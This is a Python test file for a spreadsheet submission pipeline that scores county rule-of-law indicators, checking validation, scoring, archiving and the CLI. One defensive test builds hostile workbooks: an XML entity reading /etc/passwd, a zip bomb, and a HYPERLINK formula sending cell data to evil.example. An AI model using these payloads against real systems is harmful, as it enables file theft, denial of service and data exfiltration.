"""Forms from the empty one to the score: what is taken lands as evidence, what is wrong is told by its cell."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from typer.testing import CliRunner

from fazhi.archive import ArchiveReader
from fazhi.catalogue import load_catalogue
from fazhi.cli import app
from fazhi.derive import load_partition, pending_partitions
from fazhi.nightly import score_and_record
from fazhi.scoring.explain import explain
from fazhi.scoring.scheme import Scheme, load_scheme
from fazhi.settings import Settings
from fazhi.submissions.columns import COLUMNS
from fazhi.submissions.filing import SubmissionError, submit
from fazhi.submissions.form import form
from fazhi.warehouse.database import connect
from fazhi.warehouse.fingerprint import fingerprint
from fazhi_local.postgres import PostgresServer
from tests.databases import database
from tests.scoring.seed import SAMPLE, seed_sample, settings_for

Fill = Callable[..., Path]


@pytest.fixture(scope="module")
def seeded(postgres: PostgresServer, migrated_template: str) -> Iterator[str]:
    with database(postgres, template=migrated_template) as dsn:
        seed_sample(settings_for(dsn))
        yield dsn


@pytest.fixture
def settings(postgres: PostgresServer, seeded: str, tmp_path: Path) -> Iterator[Settings]:
    with database(postgres, template=seeded.rpartition("/")[2]) as dsn:
        places = {name: tmp_path / name for name in ("spool", "data_docs")}
        yield replace(settings_for(dsn), archive=str(tmp_path / "archive"), **places)


@pytest.fixture(scope="module")
def scheme() -> Scheme:
    return load_scheme(SAMPLE / "schemes" / "yunchuan_county.yml", load_catalogue(settings_for("").catalogue))


@pytest.fixture
def fill(scheme: Scheme, tmp_path: Path) -> Fill:
    """A form of 990122 and 2024 in which `values` (indicator to value) are filled in; `cells` are put in last."""

    def filled(values: dict[str, Any], cells: dict[str, Any] | None = None, name: str = "form.xlsx") -> Path:
        empty = form(scheme, 2024, load_catalogue(settings_for("").catalogue), "990122")
        book = openpyxl.load_workbook(io.BytesIO(empty))
        for row in book.active.iter_rows(min_row=2):
            indicator, of_year = row[COLUMNS.index("指标代码")].value, row[COLUMNS.index("数据年度")].value
            if indicator in values and of_year == 2024:
                row[COLUMNS.index("数值")].value = values[indicator]
                row[COLUMNS.index("资料来源")].value = "法院司法建议书台账"
        for address, value in (cells or {}).items():
            book.active[address] = value
        path = tmp_path / name
        book.save(path)
        return path

    return filled


def _address(path: Path, indicator: str, column: str) -> str:
    for row in openpyxl.load_workbook(path).active.iter_rows(min_row=2):
        if row[COLUMNS.index("指标代码")].value == indicator and row[COLUMNS.index("数据年度")].value == 2024:
            return str(row[COLUMNS.index(column)].coordinate)
    raise AssertionError(indicator)


def test_the_form_asks_for_each_figure_once(scheme: Scheme) -> None:
    catalogue = load_catalogue(settings_for("").catalogue)
    empty = form(scheme, 2024, catalogue, "990122")
    assert empty == form(scheme, 2024, catalogue, "990122")
    rows = list(openpyxl.load_workbook(io.BytesIO(empty)).active.iter_rows(values_only=True))
    assert rows[0] == COLUMNS
    asked = [(row[5], row[7], row[8]) for row in rows[1:]]
    inputs = {each for item in scheme.scored for each in item.rule.inputs() if each.kind == "actual"}
    assert set(asked) == {(each.indicator, each.breakdown or None, 2024 - each.back) for each in inputs}
    assert len(asked) == len(set(asked))
    assert ("legal_aid.cases", None, 2023) in asked
    assert {row[:3] for row in rows[1:]} == {("yunchuan_county", 2024, "990122")}


def test_what_is_submitted_goes_the_way_of_pages_to_the_score(settings: Settings, fill: Fill) -> None:
    score_and_record(settings, "99|2024")
    path = fill({"litigation.loss_rate": 5, "governance.study_sessions": "1,012", "litigation.concluded": 40})
    taken = submit(settings, path, submitted_by="王科员")
    assert (taken.partition, taken.figures, taken.known) == ("99|2024", 3, False)
    assert pending_partitions(settings) == ["99|2024"]
    assert load_partition(settings, "99|2024") == ["99|2024"]
    score_and_record(settings, "99|2024")
    with connect(settings.warehouse_dsn) as connection:
        explained = explain(connection, "990122", 2024)
        (document,) = connection.execute(
            "SELECT title, document_type, report_year, url FROM dw.dim_document WHERE document_type = 'submission'"
        ).fetchall()
        located = connection.execute(
            "SELECT locator, evidence FROM dw.fact_observation JOIN dw.dim_indicator USING (indicator_key)"
            " WHERE rule = 'submission' AND code = 'litigation.loss_rate'"
        ).fetchone()
        capture = connection.execute(
            "SELECT archive_file, archive_offset, record_type FROM etl.capture WHERE kind = 'submission'"
        ).fetchone()
    (item,) = (item for item in explained.items if item.code == "disputes.loss_rate")
    assert (item.score, item.reason) == (Decimal("8.00"), "full")
    (evidence,) = (line for line in item.evidence if line.indicator == "litigation.loss_rate")
    assert "法院司法建议书台账" in evidence.sentence
    assert (evidence.value, evidence.verification) == (5, "self_reported")
    row = int(_address(path, "litigation.loss_rate", "数值")[1:])
    assert located == (f"t0r{row - 1}c{COLUMNS.index('数值')}", "5")
    assert document[1:] == ("submission", 2024, "urn:fazhi:submission:990122:2024:yunchuan_county")
    assert "王科员填报" in document[0]
    assert capture is not None
    assert capture[2] == "resource"
    with ArchiveReader(settings.archive) as archive:
        assert archive.read(capture[0], capture[1]).body == path.read_bytes()


def test_the_same_file_changes_nothing_and_a_later_one_takes_its_place(settings: Settings, fill: Fill) -> None:
    first = fill({"litigation.loss_rate": 5, "litigation.concluded": 40})
    submit(settings, first, submitted_by="王")
    load_partition(settings, "99|2024")
    with connect(settings.warehouse_dsn) as connection:
        before = fingerprint(connection)
    assert submit(settings, first, submitted_by="王").known
    assert load_partition(settings, "99|2024") == []
    with connect(settings.warehouse_dsn) as connection:
        assert fingerprint(connection) == before
    submit(settings, fill({"litigation.loss_rate": "6.5%"}), submitted_by="王")
    load_partition(settings, "99|2024")
    with connect(settings.warehouse_dsn) as connection:
        held = connection.execute(
            "SELECT indicator_code, value FROM mart.indicator_timeseries WHERE document_type = 'submission'"
        )
        assert held.fetchall() == [("litigation.loss_rate", Decimal("6.5"))]
        gone = connection.execute(
            "SELECT superseded_cause FROM dw.fact_observation WHERE rule = 'submission' AND superseded_at IS NOT NULL"
        )
        assert gone.fetchall() == [("revised_by_source",)] * 2


def test_it_goes_through_the_gate_of_all_documents(settings: Settings, fill: Fill) -> None:
    submit(settings, fill({"litigation.loss_rate": 130}), submitted_by="王")
    load_partition(settings, "99|2024")
    with connect(settings.warehouse_dsn) as connection:
        rejected = connection.execute(
            "SELECT region_code, indicator_code, value FROM mart.rejected_rows WHERE document_url LIKE 'urn:%'"
        ).fetchall()
    assert rejected == [("990122", "litigation.loss_rate", "130")]


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("数值", "很多", r"K\d+: '很多' is neither a number in % nor 不适用"),
        ("数值", -1, r"K\d+: -1 is below zero"),
        ("数值", "1e999999", r"K\d+: '1e999999' is neither"),
        ("单位", "件", r"J\d+: litigation\.loss_rate is in %, not in '件'"),
        ("指标代码", "litigation.lossrate", r"F\d+: the catalogue has no indicator 'litigation\.lossrate'"),
        ("分项", "court=moon", r"H\d+: litigation\.loss_rate has no breakdown 'court=moon'"),
        ("资料来源", None, r"L\d+: say what 5 in K\d+ rests on"),
        ("数据年度", "去年", r"I\d+: '去年' is not a year"),
        ("行政区划代码", "990123", r"column C must say one thing in all rows, not 990122、990123"),
        ("方案", "other", r"column A must say one thing"),
    ],
)
def test_a_wrong_cell_is_named_and_nothing_is_kept(
    settings: Settings, fill: Fill, column: str, value: Any, message: str
) -> None:
    values = {"litigation.loss_rate": 5, "governance.study_sessions": 3}
    address = _address(fill(values), "litigation.loss_rate", column)
    with pytest.raises(SubmissionError, match=message) as refused:
        submit(settings, fill(values, {address: value}), submitted_by="王")
    if not message.startswith("column"):
        assert f" {address}: " in str(refused.value)
    with connect(settings.warehouse_dsn) as connection:
        assert connection.execute("SELECT count(*) FROM etl.capture WHERE kind = 'submission'").fetchone() == (0,)


def test_every_wrong_cell_is_told_at_once(settings: Settings, fill: Fill) -> None:
    path = fill({"litigation.loss_rate": "x", "governance.study_sessions": "y"})
    with pytest.raises(SubmissionError) as refused:
        submit(settings, path, submitted_by="王")
    assert str(refused.value).count("is neither a number") == 2


def test_what_is_no_form_is_refused(settings: Settings, fill: Fill, tmp_path: Path) -> None:
    with pytest.raises(SubmissionError, match="no value is filled in"):
        submit(settings, fill({}), submitted_by="王")
    with pytest.raises(SubmissionError, match="heading row is 方案、年度、地区"):
        submit(settings, fill({"litigation.loss_rate": 5}, {"C1": "地区"}), submitted_by="王")
    with pytest.raises(SubmissionError, match="A2: there is no scheme yunchuan_county for 2031"):
        changed = fill({"litigation.loss_rate": 5})
        submit(settings, fill({"litigation.loss_rate": 5}, {f"B{_row(changed)}": 2031}), submitted_by="王")
    with pytest.raises(SubmissionError, match="123456 is no county"):
        submit(settings, fill({"litigation.loss_rate": 5}, {f"C{_row(changed)}": "123456"}), submitted_by="王")
    with pytest.raises(SubmissionError, match="cannot be read"):
        submit(settings, tmp_path / "nothing.xlsx", submitted_by="王")
    with pytest.raises(SubmissionError, match="say who"):
        submit(settings, changed, submitted_by=" ")
    book = openpyxl.Workbook()
    book.active.append(["甲", "乙"])
    book.create_sheet("二").append(["丙", "丁"])
    book.save(tmp_path / "two.xlsx")
    with pytest.raises(SubmissionError, match="one sheet with one table"):
        submit(settings, tmp_path / "two.xlsx", submitted_by="王")


def _row(path: Path) -> str:
    return _address(path, "litigation.loss_rate", "数值")[1:]


def test_a_hostile_workbook_harms_nobody(settings: Settings, fill: Fill, tmp_path: Path) -> None:
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(b"PK\x03\x04 not a workbook")
    with pytest.raises(SubmissionError, match="is not taken"):
        submit(settings, path, submitted_by="王")
    entity = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    _with_member(fill({"litigation.loss_rate": 5}), path, "xl/sharedStrings.xml", entity.encode())
    with pytest.raises(SubmissionError, match="is not taken"):
        submit(settings, path, submitted_by="王")
    _with_member(fill({"litigation.loss_rate": 5}), path, "xl/media/bomb.bin", b"0" * 400_000_000)
    with pytest.raises(SubmissionError, match="is not taken"):
        submit(settings, path, submitted_by="王")
    formula = fill({"litigation.loss_rate": '=HYPERLINK("http://evil.example/?"&A1)'})
    with pytest.raises(SubmissionError, match="no value is filled in"):  # a formula that no spreadsheet has worked out
        submit(settings, formula, submitted_by="王")


def _with_member(source: Path, target: Path, name: str, content: bytes) -> None:
    with zipfile.ZipFile(source) as read, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as written:
        for member in read.namelist():
            if member != name:
                written.writestr(member, read.read(member))
        written.writestr(name, content)


def test_by_the_command_line(settings: Settings, fill: Fill, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in {
        "FAZHI_WAREHOUSE_DSN": settings.warehouse_dsn,
        "FAZHI_ARCHIVE": settings.archive,
        "FAZHI_SPOOL": str(settings.spool),
        "FAZHI_SCHEMES": str(SAMPLE / "schemes"),
        "FAZHI_REGIONS": str(SAMPLE / "regions"),
    }.items():
        monkeypatch.setenv(name, value)

    def fazhi(*arguments: str) -> str:
        result = CliRunner().invoke(app, arguments)
        assert result.exit_code == 0, result.exception
        return " ".join(result.output.split())

    out = tmp_path / "empty.xlsx"
    scheme = str(SAMPLE / "schemes" / "yunchuan_county.yml")
    fazhi("scheme", "template", scheme, "--year", "2024", "--region", "990122", "-o", str(out))
    assert openpyxl.load_workbook(out).active["C2"].value == "990122"
    path = str(fill({"litigation.loss_rate": 5}))
    assert "1 figure of 990122 and 2024 taken" in fazhi("submit", path, "--by", "王")
    assert "nothing to do" in fazhi("submit", path, "--by", "王")
